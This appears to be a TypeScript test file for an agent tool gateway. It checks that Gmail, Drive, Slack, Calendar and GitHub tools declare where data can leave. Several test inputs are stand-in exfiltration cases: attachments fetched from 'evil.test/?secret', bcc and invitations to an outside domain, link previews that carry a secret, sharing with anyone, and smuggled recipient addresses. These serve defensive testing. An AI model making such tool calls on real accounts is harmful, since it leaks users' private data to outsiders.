import { describe, expect, test } from "vitest";
import { openRegistry } from "../gateway/catalog/index.ts";
import { providers, servers } from "./index.ts";
import { type AnyTool, TARGET_KINDS, type Target } from "./kit/index.ts";

const registry = openRegistry(providers, servers);
const tools: AnyTool[] = servers.flatMap((server) => [...server.tools]);
const toolOf = (name: string): AnyTool => {
  const found = tools.find((tool) => tool.name === name);
  if (!found) throw new Error(`there is no ${name}`);
  return found;
};
const targetsOf = (name: string, args: object): readonly Target[] => {
  const tool = toolOf(name);
  return tool.targets === "none" ? [] : tool.targets(tool.input.parse(args));
};
const outOf = (name: string, args: object): readonly Target[] | false => {
  const tool = toolOf(name);
  const { carries_out } = tool.labels;
  if (carries_out === false) return false;
  return carries_out === "targets" ? targetsOf(name, args) : carries_out(tool.input.parse(args));
};
const named = (kind: string, ...names: string[]) => names.map((name) => ({ kind, name }));
const open = (kind: string, how: "checked" | "unbounded") => ({ kind, open: how });

describe("every tool", () => {
  test.each(tools)("$name says what it touches, and what it reads and carries out", ({ targets, labels }) => {
    expect(targets === "none" || typeof targets === "function").toBe(true);
    expect(typeof labels.reads_untrusted).toBe("boolean");
    expect(typeof labels.reads_private).toBe("boolean");
    const { carries_out } = labels;
    expect(carries_out === false || carries_out === "targets" || typeof carries_out === "function").toBe(
      true,
    );
    // What leaves by its targets needs some.
    if (carries_out === "targets") expect(targets).not.toBe("none");
  });

  test("that reads only carries nothing out, and one that others see the effect of says where", () => {
    for (const { name, effect, labels } of tools)
      if (effect === "read") expect(labels.carries_out, name).toBe(false);
    const quiet = tools.filter(
      ({ effect, labels }) => effect === "destructive" && labels.carries_out === false,
    );
    // What these do takes something away and says nothing new to anybody.
    expect(quiet.map(({ name }) => name)).toEqual([
      "gmail_trash",
      "calendar_delete_event",
      "drive_unshare_file",
      "drive_trash_file",
      "slack_delete_message",
    ]);
  });

  test("that takes a file from anywhere says which host is asked", () => {
    const taking = tools.filter(({ input }) => {
      const text = JSON.stringify(Object.keys(input.shape));
      return /"(?:source|attachments|files)"/.test(text);
    });
    expect(taking.map(({ name }) => name)).toEqual([
      "gmail_create_draft",
      "gmail_update_draft",
      "gmail_send_message",
      "drive_create_file",
      "drive_update_content",
      "slack_upload_file",
      "github_commit_files",
    ]);
    const source = "https://evil.test/?secret=1";
    const args: Record<string, object> = {
      gmail_create_draft: { body: "", attachments: [source] },
      gmail_update_draft: { draft_id: "1", attachments: [source] },
      gmail_send_message: { to: ["ada@acme.test"], body: "", attachments: [source] },
      drive_create_file: { name: "a", source },
      drive_update_content: { file_id: "F1", source },
      slack_upload_file: { channel: "C0123ABCD", filename: "a", source },
      github_commit_files: {
        repo: "acme/site",
        branch: "main",
        message: "m",
        files: [{ path: "a", source }],
      },
    };
    for (const { name } of taking) {
      expect(targetsOf(name, args[name] ?? {}), name).toContainEqual({
        kind: "recipient_domains",
        name: "evil.test",
      });
      expect(outOf(name, args[name] ?? {}), name).toContainEqual({
        kind: "recipient_domains",
        name: "evil.test",
      });
    }
  });

  test("of GitHub with a repository in its arguments is held to it", () => {
    for (const tool of tools.filter(({ name }) => name.startsWith("github_"))) {
      if (!("repo" in tool.input.shape)) continue;
      expect(typeof tool.targets, tool.name).toBe("function");
    }
    expect(targetsOf("github_get_file", { repo: "Acme/Site" })).toEqual(named("repositories", "Acme/Site"));
    const pull = (head: string) =>
      targetsOf("github_create_pull_request", { repo: "acme/site", title: "x", base: "main", head });
    expect(pull("topic")).toEqual(named("repositories", "acme/site"));
    expect(pull("Acme:topic")).toEqual(named("repositories", "acme/site"));
    expect(pull("evil:topic")).toContainEqual(open("repositories", "unbounded"));
  });
});

test("everything that goes out by link names its targets and the tools that hand out the same", () => {
  const resources = [...registry.servers.values()].flatMap((server) => [...server.resources.values()]);
  expect(resources.length).toBeGreaterThanOrEqual(4);
  for (const { resource, tool } of resources) {
    expect(resource.targets === "none" || typeof resource.targets === "function").toBe(true);
    expect(resource.tools.length).toBeGreaterThan(0);
    expect(tool.as).toEqual(resource.tools);
  }
});

describe("what cannot be told from the arguments is not told as if it could", () => {
  const UNBOUNDED: Record<string, [object, string]> = {
    github_search_repositories: [{ query: "x" }, "repositories"],
    github_search_code: [{ query: "x" }, "repositories"],
    github_search_issues: [{ query: "x" }, "repositories"],
    slack_search_messages: [{ query: "x" }, "channels"],
    slack_list_channels: [{}, "channels"],
    drive_search_files: [{ query: "x" }, "folders"],
    drive_list_shared_drives: [{}, "folders"],
    calendar_list_calendars: [{}, "calendars"],
  };
  test.each(Object.entries(UNBOUNDED))("%s", (name, [args, kind]) => {
    expect(targetsOf(name, args)).toEqual([open(kind, "unbounded")]);
  });

  test("a search of one repository whose words may reach beyond it", () => {
    const search = (query: string) => targetsOf("github_search_code", { repo: "acme/site", query });
    expect(search("password")).toEqual(named("repositories", "acme/site"));
    for (const query of ["a) OR (b", "a OR b", "NOT a", "(a"])
      expect(search(query), query).toEqual([open("repositories", "unbounded")]);
  });

  test("Drive's own search language, even in a folder", () => {
    expect(targetsOf("drive_search_files", { in_folder: "F1", query: "x" })).toEqual(named("folders", "F1"));
    expect(targetsOf("drive_search_files", { in_folder: "F1", raw_q: "a" })).toEqual([
      open("folders", "unbounded"),
    ]);
  });

  test("files, replies, drafts, permalinks and cursors are told while the tool runs", () => {
    const later: [string, object, string][] = [
      ["drive_read_file", { file_id: "F1" }, "folders"],
      ["gmail_send_draft", { draft_id: "1" }, "recipient_domains"],
      ["gmail_send_message", { body: "", reply_to_message_id: "1" }, "recipient_domains"],
      ["gmail_update_draft", { draft_id: "1", body: "x" }, "recipient_domains"],
      ["calendar_update_event", { event_id: "1", title: "x" }, "recipient_domains"],
      [
        "calendar_respond_to_event",
        { event_id: "1", response: "accepted", comment: "x" },
        "recipient_domains",
      ],
      ["slack_read_file", { file_id: "F0123ABCD" }, "channels"],
      ["slack_get_message", { permalink: "https://acme.slack.com/archives/C1/p1" }, "channels"],
      ["slack_read_channel", { channel: "#general", cursor: "x" }, "channels"],
    ];
    for (const [name, args, kind] of later)
      expect(targetsOf(name, args), name).toContainEqual(open(kind, "checked"));
  });
});

test("a name is read by whoever has access to the file", () => {
  expect(outOf("drive_organize_file", { file_id: "F1", starred: true })).toEqual([]);
  expect(outOf("drive_organize_file", { file_id: "F1", name: "x" })).toEqual([open("folders", "checked")]);
  expect(outOf("drive_organize_file", { file_id: "F1", parent_id: "F2" })).toEqual(named("folders", "F2"));
});

describe("recipients", () => {
  test("are those of to, cc and bcc, by address and not by what stands before it", () => {
    const args = { to: ["Ada <ada@acme.test>"], cc: ["ben@acme.test"], bcc: ["eve@evil.test"], body: "" };
    expect(targetsOf("gmail_send_message", args)).toEqual(
      named("recipient_domains", "ada@acme.test", "ben@acme.test", "eve@evil.test"),
    );
  });
  test("that are none are the tool's refusal, not a way around", () => {
    for (const to of ["eve@evil.test, ada@acme.test", "ada@acme.test <eve@evil.test", "acme.test"])
      expect(() => targetsOf("gmail_send_message", { to: [to], body: "" }), to).toThrow(/one e-mail address/);
  });
  test("of invitations and shares; with a link it is anybody", () => {
    const start = "2026-12-01T10:00:00Z";
    const invited = { title: "x", start, end: "2026-12-01T11:00:00Z", attendees: ["Eve <eve@evil.test>"] };
    expect(targetsOf("calendar_create_event", invited)).toEqual([
      ...named("calendars", "primary"),
      ...named("recipient_domains", "eve@evil.test"),
    ]);
    const share = { file_id: "F1", role: "reader" };
    expect(targetsOf("drive_share_file", { ...share, type: "anyone" })).toContainEqual(
      open("recipient_domains", "unbounded"),
    );
    expect(
      targetsOf("drive_share_file", { ...share, type: "domain", principal: "evil.test" }),
    ).toContainEqual(named("recipient_domains", "evil.test")[0]);
  });
  test("of a preview that Slack fetches may be anybody", () => {
    const message = { channel: "C0123ABCD", text: "https://evil.test/?secret" };
    expect(targetsOf("slack_send_message", message)).toEqual(named("channels", "C0123ABCD"));
    expect(targetsOf("slack_send_message", { ...message, unfurl: true })).toContainEqual(
      open("recipient_domains", "unbounded"),
    );
  });
});

test("kinds are those of the contract", async () => {
  const { policyResources } = await import("../gateway/api/contract/index.ts");
  expect(Object.keys(policyResources.shape).toSorted()).toEqual([...TARGET_KINDS].toSorted());
});
